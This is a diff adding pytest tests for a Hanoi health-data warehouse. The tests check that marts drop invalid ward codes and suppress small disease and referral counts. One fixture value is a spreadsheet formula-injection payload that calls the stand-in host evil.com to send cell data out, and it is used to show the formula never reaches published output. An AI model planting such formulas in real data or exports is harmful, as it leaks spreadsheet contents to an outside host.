@@ -1,0 +1,87 @@
+"""What the marts publish by ward: only Hanoi's wards, and no small cell that a published total
+gives back."""
+
+from __future__ import annotations
+
+from datetime import date
+
+import pytest
+from test_marts_lake import build_project, facility, make_lake, query
+
+T = date(2026, 3, 10)
+HOSTILE_WARD = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'
+# Three city hospitals in three wards, one central hospital.
+A, B, C, D = "01001", "01002", "01003", "01004"
+WARD = {A: "00004", B: "00008", C: "00010", D: "00016"}
+REGISTRY = [
+    facility(A, "city_hospital", "public_city", WARD[A]),
+    facility(B, "city_hospital", "public_city", WARD[B]),
+    facility(C, "city_hospital", "public_city", WARD[C]),
+    facility(D, "central_hospital", "public_central", WARD[D]),
+]
+# city_hospital → central_hospital: 7 from A, 6 from B, 2 from C (15 in all).
+REFERRALS = [(A, D)] * 7 + [(B, D)] * 6 + [(C, D)] * 2
+
+
+def _person(n: int, **values) -> dict:
+    return {
+        "facility_code": A,
+        "service_date": T,
+        "patient_key": f"k{n}",
+        "patient_key_type": "cccd",
+        **values,
+    }
+
+
+def _rows() -> dict[str, list[dict]]:
+    dengue = [
+        _person(n, encounter_id=f"E{n}", ward_code=ward, icd10="A90", icd10_chapter="I",
+                is_primary=True, seq=1)
+        for n, ward in enumerate([HOSTILE_WARD] * 6 + ["99999"] * 2 + [WARD[A]] * 5)
+    ]  # fmt: skip
+    return {
+        "diagnoses": dengue,
+        "referrals": [
+            _person(
+                n,
+                facility_code=src,
+                referral_id=f"r{n}",
+                from_facility_code=src,
+                to_facility_code=dst,
+            )
+            for n, (src, dst) in enumerate(REFERRALS)
+        ],
+    }
+
+
+@pytest.fixture(scope="module")
+def warehouse(tmp_path_factory):
+    root = tmp_path_factory.mktemp("publication")
+    return build_project(root, make_lake(root, REGISTRY, _rows()))
+
+
+def test_an_unknown_ward_code_is_counted_as_unknown_never_as_a_ward(warehouse):
+    rows = query(
+        warehouse,
+        "select ward_code, cases, suppressed from mart_disease_counts_daily "
+        "where classification = 'disease_group' and category = 'dengue'",
+    )
+    # The six with a formula for a ward and the two with a code outside Hanoi's list are one
+    # "unknown" (NULL) cell; the formula appears nowhere in the mart.
+    assert {r["ward_code"]: r["cases"] for r in rows} == {WARD[A]: 5, None: 8}
+    everywhere = query(warehouse, "select distinct ward_code from mart_disease_counts_daily")
+    assert {r["ward_code"] for r in everywhere} == {WARD[A], None}
+
+
+def test_referral_flows_withhold_small_type_totals_and_what_gives_a_small_ward_cell_back(
+    warehouse,
+):
+    rows = query(warehouse, "select * from mart_referral_flows_daily where service_date = ?", [T])
+    by_type = [r for r in rows if r["level"] == "facility_type"]
+    assert [(r["referrals"], r["suppressed"]) for r in by_type] == [(15, False)]
+    by_ward = {r["from_ward_code"]: (r["referrals"], r["suppressed"]) for r in rows
+               if r["level"] == "ward"}  # fmt: skip
+    # C's 2 is withheld; so is B's 6, the smallest other cell, else 15 - 7 - 6 = 2.
+    assert by_ward == {WARD[A]: (7, False), WARD[B]: (None, True), WARD[C]: (None, True)}
+    published = sum(r for r, _ in by_ward.values() if r is not None)
+    assert by_type[0]["referrals"] - published > 4
